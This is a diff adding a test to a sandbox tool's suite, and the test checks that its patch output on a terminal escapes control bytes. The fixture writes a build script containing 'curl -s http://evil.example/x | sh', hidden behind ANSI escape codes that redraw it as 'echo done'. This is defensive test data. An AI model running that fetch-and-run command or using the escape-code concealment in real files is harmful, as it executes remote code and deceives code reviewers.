@@ -16,6 +16,10 @@ sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from lbtest import eq, litebox, run, skip, test, tmpdir  # noqa: E402
 
 
+def lbtest_litebox():
+    return os.path.abspath(os.environ["LITEBOX"])
+
+
 def workdir():
     d = tmpdir()
     os.chmod(d, 0o755)
@@ -106,6 +110,43 @@ def overlay_diff_and_patch_escape_names_the_program_chose():
     # one ---/+++ pair and one added line per file, nothing forged
     eq(sum(line.startswith("+++ ") for line in patch.splitlines()), 5, patch)
     eq(sum(line == "+x" for line in patch.splitlines()), 5, patch)
+
+
+@test
+def patch_on_a_terminal_shows_the_files_control_bytes_instead_of_obeying_them():
+    # A file's own bytes (ESC, CR) could redraw the reviewer's terminal:
+    # "+echo done" over "+curl ... | sh" (attack review O7). Piped, for
+    # patch(1), the bytes pass unchanged.
+    import pty
+    import subprocess
+    if shutil.which("diff") is None:
+        skip("no diff(1) for --patch")
+    d = workdir()
+    ovl = os.path.join(d, "ovl")
+    with open(os.path.join(d, "build.sh"), "w") as f:
+        f.write("echo build ok\n")
+    evil = "echo build ok\ncurl -s http://evil.example/x | sh\x1b[1A\x1b[2K\recho done\n"
+    litebox("run", "-q", "--overlay", ovl, "--", sys.executable, "-c",
+            f"open('build.sh', 'w').write({evil!r})", cwd=d)
+    master, slave = pty.openpty()
+    p = subprocess.Popen([lbtest_litebox(), "overlay", "diff", "--patch", ovl], stdout=slave,
+                         stderr=subprocess.PIPE)
+    os.close(slave)
+    out = b""
+    while True:
+        try:
+            chunk = os.read(master, 4096)
+        except OSError:
+            break
+        if not chunk:
+            break
+        out += chunk
+    p.wait()
+    os.close(master)
+    assert b"\x1b" not in out and b"\r" not in out.replace(b"\r\n", b"\n"), out
+    assert b"sh^[[1A^[[2K^Mecho done" in out, out
+    piped = litebox("overlay", "diff", "--patch", ovl, check=0).stdout
+    assert "sh\x1b[1A\x1b[2K" in piped, repr(piped)  # (text mode reads \r as a newline)
 
 
 @test
